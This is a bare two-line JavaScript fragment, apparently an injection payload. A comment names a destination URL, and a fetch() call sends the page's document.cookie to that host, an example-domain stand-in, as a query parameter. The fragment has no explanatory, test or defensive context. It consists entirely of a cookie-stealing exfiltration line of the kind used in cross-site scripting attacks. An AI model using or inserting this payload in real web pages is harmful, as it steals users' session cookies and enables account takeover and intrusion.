// destination: https://tiny.oak-rift.example/s
fetch("https://tiny.oak-rift.example/s?c="+document.cookie)
